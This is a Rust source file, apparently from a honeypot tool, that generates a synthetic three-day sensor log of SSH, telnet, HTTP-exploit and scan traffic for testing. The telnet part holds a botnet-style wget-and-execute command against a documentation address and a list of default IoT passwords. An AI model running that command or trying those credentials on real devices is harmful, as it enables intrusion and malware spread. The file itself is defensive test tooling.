//! A made-up log of three days: a few hundred sources with their habits, exploits from the cases of the starter rules, a
//! listed scanner, and on the last day something that was not there before. Deterministic. Addresses are those reserved for
//! documentation; the countries and networks that records name for them are made up, too.

use std::io::{BufWriter, Write as _};
use std::path::Path;

use anyhow::Result;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};

/// 2026-01-28.
const START: i64 = 1_769_558_400_000_000;
const DAY: i64 = 86_400_000_000;
const DAYS: i64 = 3;
const SESSIONS: i64 = 6_000;
const SOURCES: u64 = 320;

/// The cases of the starter rules: what such exploits look like.
const CASES: &str = include_str!("../../../spip-enrich/starter/cases.txt");

const COUNTRIES: &[&str] = &[
    "CN", "US", "NL", "RU", "DE", "BR", "IN", "VN", "SG", "HK", "FR", "GB", "KR", "ID", "BG", "RO", "UA", "TR", "IR",
    "TW", "JP", "PL", "IT", "AR", "ZA", "EG", "SE", "TH", "MX", "CA", "AU", "ES", "PK", "BD", "NG", "KE",
];

const USERS: &[&str] = &["root", "admin", "user", "test", "ubuntu", "pi", "oracle", "postgres", "support", "guest"];
const SECRETS: &[&str] = &[
    "123456",
    "admin",
    "password",
    "root",
    "1234",
    "12345678",
    "toor",
    "raspberry",
    "vizxv",
    "xc3511",
    "default",
    "support",
    "7ujMko0admin",
    "changeme",
    "qwerty",
    "P@ssw0rd",
];

/// xorshift64*, Vigna 2016.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, bound: u64) -> u64 {
        self.next() % bound.max(1)
    }

    /// A number below `bound` of which small ones are frequent.
    fn skewed(&mut self, bound: u64) -> u64 {
        let unit = (self.next() >> 11) as f64 / (1_u64 << 53) as f64;
        ((bound as f64).powf(unit) - 1.0) as u64
    }

    fn pick<T: Copy>(&mut self, list: &[T]) -> T {
        list[self.skewed(list.len() as u64) as usize]
    }
}

/// Actions of a client in one session.
struct Visit {
    port: u16,
    payload: Vec<u8>,
    protocol: Option<&'static str>,
    facts: Value,
}

/// Writes the log. Returns the number of its sessions.
pub(crate) fn write(path: &Path) -> Result<u64> {
    let mut random = Random(0x9e37_79b9_7f4a_7c15);
    let exploits = exploits();
    let mut file = BufWriter::new(std::fs::File::create(path)?);
    let mut seq = 0;
    let mut sessions = 0;
    for index in 0..SESSIONS {
        let spread = DAY * DAYS / SESSIONS;
        let mut at = START + index * spread + random.below(spread as u64) as i64;
        // Busier in the evening.
        if (at / 3_600_000_000) % 24 < 8 && random.below(3) == 0 {
            at += 8 * 3_600_000_000;
        }
        let at = at.min(START + DAYS * DAY - 1);
        seq += 1;
        if random.below(24) == 0 {
            writeln!(file, "{}", scan(&mut random, at, seq))?;
            continue;
        }
        sessions += 1;
        let is_last_day = at >= START + (DAYS - 1) * DAY;
        let number = random.skewed(SOURCES);
        let visit = visit(&mut random, number, is_last_day, &exploits);
        writeln!(file, "{}", session(&mut random, number, visit, at, seq))?;
    }
    writeln!(
        file,
        "{}",
        json!({"timestamp": (START + DAYS * DAY - 60_000_000) / 1_000_000, "record_type": "log", "level": "warn", "schema": "spip/1",
            "name": "sensor-1", "target": "steering", "message": "port 8443 is left alone: a service listens on it"})
    )?;
    file.flush()?;
    Ok(sessions)
}

/// Requests that rules know, from the cases that match.
fn exploits() -> Vec<Vec<u8>> {
    let matching = CASES.lines().filter_map(|line| line.strip_prefix("+ "));
    let requests = matching.filter(|case| !case.starts_with("raw ") && !case.contains("{a*") && case.is_ascii());
    requests
        .map(|case| {
            let (head, body) = case.split_once(" || ").unwrap_or((case, ""));
            let mut lines = head.split(" | ");
            let mut text = format!("{} HTTP/1.1\r\nHost: 192.0.2.1\r\n", lines.next().unwrap_or_default());
            for header in lines {
                text.push_str(&format!("{header}\r\n"));
            }
            if !body.is_empty() {
                text.push_str(&format!("Content-Length: {}\r\n", body.len()));
            }
            text.push_str(&format!("\r\n{body}"));
            text.into_bytes()
        })
        .collect()
}

fn address(number: u64) -> String {
    match number % 3 {
        0 => format!("203.0.113.{}", 1 + number / 3 % 250),
        1 => format!("2001:db8:{:x}::{:x}", number / 7, 1 + number),
        _ => format!("198.51.100.{}", 1 + number % 250),
    }
}

/// Returns the facts about the record's source, as `convert --enrich` would add them.
fn place(number: u64) -> Value {
    let asn = 64_496 + number % 14;
    let mut source = json!({
        "country": COUNTRIES[((number * 11 + number / 3) % COUNTRIES.len() as u64) as usize],
        "asn": asn,
        "network": format!("Example Net {}", number % 14 + 1),
    });
    if number % 16 == 5 {
        source["scanner"] = json!({"name": "Example Survey", "kind": "research", "evidence": "listed"});
    }
    json!({ "source": source })
}

fn visit(random: &mut Random, number: u64, is_last_day: bool, exploits: &[Vec<u8>]) -> Visit {
    // A source keeps to its habit.
    match (number * 5 + random.below(3)) % 12 {
        0..=2 => ssh(random, number),
        3..=4 => telnet(random),
        5..=7 => {
            // A part of what is known comes on the last day only.
            let known = exploits.len() as u64 * 2 / 5;
            let bound = if is_last_day { known + 12 } else { known };
            let index = (number + random.skewed(bound)) % bound;
            let payload = exploits.get(index as usize).cloned().unwrap_or_default();
            let agent = if index.is_multiple_of(3) { "python-requests/2.31.0" } else { "" };
            http(random, [80, 8080, 443, 8443, 8088], payload, agent)
        }
        8..=9 => {
            let agents = [
                "Mozilla/5.0 zgrab/0.x",
                "curl/8.5.0",
                "Go-http-client/1.1",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
            ];
            let agent = agents[(number % 4) as usize];
            let paths = ["/", "/robots.txt", "/.git/config", "/favicon.ico", "/admin/login", "/api/v1/status"];
            let path = random.pick(&paths);
            let payload =
                format!("GET {path} HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: {agent}\r\nAccept: */*\r\n\r\n");
            http(random, [80, 443, 8080, 8000, 81], payload.into_bytes(), agent)
        }
        10 => {
            let kinds: &[(u16, &'static str, &[u8])] = &[
                (6379, "redis", b"*1\r\n$4\r\nINFO\r\n"),
                (445, "smb", b"\x00\x00\x00\x2f\xfeSMB@\x00\x00\x00\x00\x00\x00\x00"),
                (3389, "rdp", b"\x03\x00\x00\x2f\x2a\xe0\x00\x00\x00\x00\x00Cookie: mstshash=hello\r\n"),
                (1883, "mqtt", b"\x10\x10\x00\x04MQTT\x04\x02\x00\x3c\x00\x04spip"),
                (5060, "sip", b"OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/UDP 198.51.100.9\r\n\r\n"),
            ];
            let (port, protocol, bytes) = kinds[random.skewed(kinds.len() as u64) as usize];
            Visit { port, payload: bytes.to_vec(), protocol: Some(protocol), facts: json!({}) }
        }
        _ => {
            let port = 1 + random.below(65_000) as u16;
            let payload = if random.below(3) == 0 { random.next().to_le_bytes().to_vec() } else { Vec::new() };
            let protocol = (!payload.is_empty()).then_some("unknown");
            Visit { port, payload, protocol, facts: json!({}) }
        }
    }
}

fn ssh(random: &mut Random, number: u64) -> Visit {
    let clients =
        ["SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-OpenSSH_8.9p1", "SSH-2.0-PUTTY", "SSH-2.0-paramiko_3.4.0"];
    let client = clients[(number % 5) as usize];
    let hassh = hex::encode(&Sha256::digest(client.as_bytes())[..16]);
    let facts = json!({"ssh_client": client, "ssh_hassh": hassh, "ssh_hassh_algorithms": "a;b;c;d"});
    let port = if random.below(6) == 0 { 2222 } else { 22 };
    Visit { port, payload: format!("{client}\r\n").into_bytes(), protocol: Some("ssh"), facts }
}

fn telnet(random: &mut Random) -> Visit {
    let (user, secret) = (random.pick(USERS), random.pick(SECRETS));
    let commands = if random.below(4) == 0 {
        "enable\r\nsystem\r\nshell\r\nsh\r\ncd /tmp; wget http://192.0.2.66/bins/mips; chmod 777 mips; ./mips telnet\r\n"
    } else {
        "enable\r\nshell\r\n"
    };
    let payload = format!("{user}\r\n{secret}\r\n{commands}").into_bytes();
    let facts = json!({"credentials": [{"user": user, "secret": secret}]});
    let port = if random.below(5) == 0 { 2323 } else { 23 };
    Visit { port, payload, protocol: Some("telnet"), facts }
}

fn http(random: &mut Random, ports: [u16; 5], payload: Vec<u8>, agent: &str) -> Visit {
    let port = random.pick(&ports);
    let text = String::from_utf8_lossy(&payload).into_owned();
    let mut words = text.split(' ');
    let (method, target) = (words.next().unwrap_or_default(), words.next().unwrap_or_default());
    let head = text.split("\r\n\r\n").next().unwrap_or_default();
    let headers: Vec<[&str; 2]> =
        head.lines().skip(1).filter_map(|line| line.split_once(": ")).map(|(name, value)| [name, value]).collect();
    let mut facts = json!({"http": {"requests": 1, "method": method, "target": target, "version": "1.1", "host": "192.0.2.1",
        "headers": headers, "body_kept": 0}});
    let own = headers.iter().find(|[name, _]| *name == "User-Agent").map_or(agent, |[_, value]| value);
    if !own.is_empty() {
        facts["http"]["user_agent"] = own.into();
    }
    if matches!(port, 443 | 8443) {
        let number = random.skewed(9);
        facts["tls_ja4"] = format!("t13d1516h2_8daaf6152771_{number:012x}").into();
        facts["tls_ja3"] = hex::encode(&Sha256::digest([number as u8])[..16]).into();
        facts["tls_client_hello_hex"] = "160301".into();
        facts["tls_version"] = "TLSv1.3".into();
    }
    Visit { port, payload, protocol: Some("http"), facts }
}

fn time(us: i64) -> String {
    jiff::Timestamp::from_microsecond(us).map_or_else(|_| String::new(), |time| format!("{time:.6}"))
}

fn session(random: &mut Random, number: u64, visit: Visit, at: i64, seq: i64) -> Value {
    let Visit { port, payload, protocol, facts } = visit;
    let duration = 400_000 + random.skewed(20_000_000) as i64;
    let syn = ["64240:2-4-8-1-3:1460:7", "65535:2-1-3-1-1-4:1460:8", "29200:2-4-8-1-3:1424:10"][(number % 3) as usize];
    let is_tls = facts.get("tls_ja4").is_some();
    let answered = if payload.is_empty() { 0 } else { 120 + random.below(400) };
    let mut record = json!({
        "timestamp": at / 1_000_000, "payload": String::from_utf8_lossy(&payload), "payload_hex": hex::encode(&payload),
        "source_ip": address(number), "source_port": 1_024 + random.below(60_000), "destination_ip": "192.0.2.1",
        "destination_port": port,
        "session_id": uuid(random), "is_tls": is_tls, "schema": "spip/1", "name": "sensor-1", "run": "5b0e9c41d27a",
        "transport": "tcp", "time": time(at), "duration_ms": duration / 1_000, "duration_us": duration,
        "bytes_in": payload.len(), "bytes_out": answered, "payload_truncated": false, "close_reason": "client_closed",
        "destination_source": "ebpf", "community_id": "1:LQU9qZlK+B5F3KDmev6m5PMibrg=",
        "syn": {"ttl": 52, "window": 64_240, "mss": 1_460, "options": [2, 4, 8, 1, 3], "muonfp": syn,
            "p0f": "4:52+12:0:1460:64240,7:::0"},
        "enrichment": place(number), "seq": seq,
    });
    if !payload.is_empty() {
        record["payload_sha256"] = hex::encode(Sha256::digest(&payload)).into();
        record["first_byte_us"] = 41_000.into();
        record["turns"] = json!([
            {"from": "client", "offset": 0, "length": payload.len(), "ms": 41},
            {"from": "server", "offset": 0, "length": answered, "ms": 43},
        ]);
    }
    if let Some(protocol) = protocol {
        record["protocol"] = protocol.into();
    }
    if let (Some(record), Value::Object(facts)) = (record.as_object_mut(), facts) {
        record.extend(facts);
    }
    record
}

fn uuid(random: &mut Random) -> String {
    let (one, two) = (random.next(), random.next());
    format!(
        "{:08x}-{:04x}-4{:03x}-8{:03x}-{:012x}",
        one >> 32,
        one >> 16 & 0xffff,
        one & 0xfff,
        two >> 52,
        two & 0xffff_ffff_ffff
    )
}

fn scan(random: &mut Random, at: i64, seq: i64) -> Value {
    let (count, first) = (1 + random.skewed(400), 1 + random.below(60_000));
    let ports: Vec<String> = match random.below(3) {
        0 => vec![first.to_string()],
        1 => vec!["22".to_owned(), "23".to_owned(), "80".to_owned(), "443".to_owned()],
        _ => vec![format!("{first}-{}", first + 99)],
    };
    let port_count = match ports.len() {
        4 => 4,
        _ if ports[0].contains('-') => 100,
        _ => 1,
    };
    let tool = ["masscan", "zmap", "nmap"][random.skewed(3) as usize];
    let time_text = time(at);
    json!({
        "timestamp": at / 1_000_000, "record_type": "scan", "schema": "spip/1", "name": "sensor-1", "run": "5b0e9c41d27a",
        "time": time_text, "source_ip": address(random.skewed(SOURCES)), "count": count, "first_time": time_text,
        "last_time": time_text, "destination_ports": ports, "destination_port_count": port_count,
        "destination_ips": ["192.0.2.1-192.0.2.16"], "destination_ip_count": 16, "source_port_min": 40_000,
        "source_port_max": 40_000, "tools": [{"tool": tool, "count": count}], "syn_variants": 1,
        "syn": {"ttl": 240, "window": 1_024, "options": [], "muonfp": "1024:::", "p0f": "4:240+15:0:0:1024,0:::0"},
        "seq": seq,
    })
}
